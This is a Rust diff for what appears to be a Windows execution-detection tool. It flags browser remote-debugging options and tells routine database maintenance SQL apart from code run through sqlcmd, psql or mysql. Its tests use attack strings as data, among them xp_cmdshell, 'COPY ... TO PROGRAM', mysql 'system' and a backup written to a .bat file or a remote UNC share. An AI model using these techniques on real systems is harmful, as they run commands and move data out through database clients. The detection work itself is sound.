@@ -146,6 +146,9 @@ pub(super) fn carries(option: &str) -> bool {
 
 pub(super) fn browser(words: &[String], rest: &str) -> Vec<Carried> {
     const CARRY: &[&str] = &[
+        // Whoever reaches the port steers the browser.
+        "--remote-debugging-address",
+        "--remote-debugging-port",
         "--load-extension",
         "--utility-cmd-prefix",
         "--gpu-launcher",
@@ -155,5 +158,232 @@ pub(super) fn browser(words: &[String], rest: &str) -> Vec<Carried> {
     match words.iter().any(carries) {
         true => vec![Code(rest.to_owned())],
         false => Vec::new(),
+    }
+}
+
+/// True for SQL that keeps a database in order and does nothing else.
+///
+/// Microsoft, "BACKUP (Transact-SQL)", "DBCC (Transact-SQL)", "sqlcmd utility" (`!!`, `:r`); MySQL, "Table maintenance
+/// statements"; PostgreSQL, "VACUUM", "psql".
+fn is_upkeep(text: &str) -> bool {
+    const UPKEEP: [&str; 16] = [
+        "alter index ",
+        "analyze",
+        "backup database ",
+        "backup log ",
+        "check table ",
+        "checkpoint",
+        "dbcc checkdb",
+        "dbcc shrinkdatabase",
+        "dbcc shrinkfile",
+        "flush logs",
+        "optimize table ",
+        "purge binary logs",
+        "reindex ",
+        "restore verifyonly ",
+        "update statistics ",
+        "vacuum",
+    ];
+    const BACKUPS: [&str; 5] = [".bak", ".trn", ".dif", ".bkp", ".log"];
+    let lower = text.trim().to_lowercase();
+    // What stands in quotation marks names a file of the backup, a table or a day.
+    let (mut said, mut names) = (String::new(), Vec::new());
+    for (at, part) in lower.split('\'').enumerate() {
+        match at % 2 {
+            0 => said.push_str(part),
+            _ => names.push(part),
+        }
+    }
+    let sign = |c: char| c.is_alphanumeric() || " _.,=()[]*;%@\t\r\n".contains(c);
+    let plain = |name: &&str| {
+        let is_path = name.contains(['\\', '/']);
+        let is_backup = BACKUPS.iter().any(|ending| name.ends_with(ending));
+        !is_path && !name.contains(['.', '%', '$']) || is_backup && !name.starts_with(r"\\")
+    };
+    let mut statements = said.split(';').map(str::trim).filter(|s| !s.is_empty());
+    let acts = [
+        "exec",
+        "xp_",
+        "sp_",
+        "openrowset",
+        "openquery",
+        "opendatasource",
+    ];
+    said.chars().all(sign)
+        && !acts.iter().any(|word| said.contains(word))
+        && names.iter().all(plain)
+        && statements.all(|s| UPKEEP.iter().any(|verb| s.starts_with(verb)))
+}
+
+/// A client of a database that is told SQL: what keeps the database in order is no code.
+pub(super) fn client(program: &str, words: &[String], rest: &str) -> Vec<Carried> {
+    let sql: &[&str] = match program {
+        "psql" => &["-c", "--command"],
+        "mysql" | "mariadb" => &["-e", "--execute"],
+        _ => &["-q", "-Q"],
+    };
+    let mut others = Vec::new();
+    let mut is_told = false;
+    let mut all = words.iter();
+    while let Some(word) = all.next() {
+        let (option, value) = match word.split_once('=') {
+            Some((option, value)) if option.starts_with("--") => (option, Some(value.to_owned())),
+            _ => (word.as_str(), None),
+        };
+        if sql.contains(&option) {
+            is_told = true;
+            let text = value.or_else(|| all.next().cloned()).unwrap_or_default();
+            if !is_upkeep(&text) {
+                return vec![Code(format!("{program} {rest}"))];
+            }
+        } else {
+            others.push(word.clone());
+        }
+    }
+    // Beside it stand the server, the account and the database, and no file.
+    const FILES: [&str; 8] = [
+        "-i",
+        "-f",
+        "-v",
+        "-o",
+        "--file",
+        "--variable",
+        "--set",
+        "--output",
+    ];
+    let is_file = |word: &String| {
+        let mut all = FILES.iter();
+        all.any(|option| word == option || word.starts_with(&format!("{option}=")))
+            || word.contains(['(', '!', '`', '|', '&', '<', '>'])
+    };
+    match is_told && !others.iter().any(is_file) {
+        true => Vec::new(),
+        false => interprets(program, words, rest),
+    }
+}
+
+/// An interpreter of which the options were not read: its words are files with code, or code.
+pub(super) fn interprets(program: &str, words: &[String], rest: &str) -> Vec<Carried> {
+    let sign = |c: char| c.is_ascii_alphanumeric() || "-_".contains(c);
+    let plain = |text: &str| text.chars().all(sign);
+    let mut out = Vec::new();
+    for (at, word) in words.iter().enumerate() {
+        let is_switch = word.starts_with('-') && plain(word);
+        // The first may be an order: `run`, `sh`.
+        if is_switch || at == 0 && plain(word) {
+            continue;
+        }
+        let is_file = word.contains(['\\', '/', '.', ':']) && !word.contains(CODE);
+        match is_file && !word.starts_with('-') {
+            true => out.push(Script(word.clone())),
+            false => return vec![Code(format!("{program} {rest}"))],
+        }
+    }
+    out
+}
+
+/// Signs that a word is code.
+const CODE: &[char] = &['(', '{', '!', '`', '$', '|', '&', '<', '>', ';', '\'', '"'];
+
+/// True where a program that is not known is told code by the form of its words: behind an option
+/// that takes code, or a call by itself.
+pub(in crate::evidence::windows::execution) fn is_told_code(words: &[String]) -> bool {
+    const OPTIONS: [&str; 14] = [
+        "-c",
+        "-e",
+        "-q",
+        "-x",
+        "--command",
+        "--eval",
+        "--exec",
+        "--execute",
+        "--expression",
+        "--run",
+        "-command",
+        "-eval",
+        "-exec",
+        "-execute",
+    ];
+    let is_path = |word: &String| word.get(1..3).is_some_and(|p| p == ":\\" || p == ":/");
+    let is_call = |word: &String| {
+        let Some((before, behind)) = word.split_once('(') else {
+            return false;
+        };
+        let letters = |c: &char| c.is_alphanumeric() || *c == '_';
+        let name = before.chars().rev().take_while(letters);
+        name.count() > 2 && behind.contains(')') && behind.contains(['"', '\'', '(', ';'])
+    };
+    let follows = words.windows(2).any(|pair| {
+        let [option, word] = pair else {
+            return false;
+        };
+        let takes = OPTIONS.contains(&option.to_lowercase().as_str());
+        // A letter stands for many things, a file with blanks in its name among them.
+        let is_relative = word.contains(['\\', '/']) && !word.contains(" /");
+        let by_blank = option.len() > 2 && word.contains(' ') && !is_relative;
+        takes && !is_path(word) && (by_blank || word.contains(CODE))
+    });
+    follows || words.iter().any(|word| !is_path(word) && is_call(word))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{client, is_told_code};
+    use crate::evidence::windows::execution::words::words;
+
+    #[test]
+    fn upkeep_of_databases_is_no_code() {
+        let usual = [
+            (
+                "sqlcmd",
+                r#"-S .\SQLEXPRESS -E -b -Q "BACKUP DATABASE [shop] TO DISK=N'D:\b\shop.bak' WITH INIT""#,
+            ),
+            ("sqlcmd", r#"-E -Q "DBCC CHECKDB (shop) WITH NO_INFOMSGS""#),
+            ("psql", r#"-U postgres -d shop -c "VACUUM ANALYZE""#),
+            ("mysql", r#"-u root --execute="OPTIMIZE TABLE shop.orders""#),
+        ];
+        for (program, rest) in usual {
+            assert!(client(program, &words(rest), rest).is_empty(), "{rest}");
+        }
+        let code = [
+            ("sqlcmd", r#"-Q "EXEC xp_cmdshell 'calc'""#),
+            (
+                "sqlcmd",
+                r#"-Q "BACKUP DATABASE x TO DISK='C:\ProgramData\a.bat'""#,
+            ),
+            (
+                "sqlcmd",
+                r#"-Q "BACKUP DATABASE x TO DISK='\\203.0.113.9\x\a.bak'""#,
+            ),
+            (
+                "sqlcmd",
+                r#"-Q "BACKUP LOG x TO DISK='a.bak'; EXEC sp_configure 'a', 1""#,
+            ),
+            ("sqlcmd", r#"-Q "CHECKPOINT" -i C:\x.sql"#),
+            ("mysql", r#"-e "system calc""#),
+            ("psql", r#"-c "COPY x TO PROGRAM 'calc'""#),
+        ];
+        for (program, rest) in code {
+            assert!(!client(program, &words(rest), rest).is_empty(), "{rest}");
+        }
+    }
+
+    #[test]
+    fn code_is_told_by_its_form() {
+        for line in [
+            "--eval \"system('calc')\"",
+            "-e print(1)",
+            "--exec \"calc /x\"",
+        ] {
+            assert!(is_told_code(&words(line)), "{line}");
+        }
+        for line in [
+            r#"-c "conf\my app.conf""#,
+            "-e production -x 5",
+            r#"-c "my settings""#,
+            r#"--exec "C:\Program Files\App\a b.log""#,
+        ] {
+            assert!(!is_told_code(&words(line)), "{line}");
+        }
     }
 }
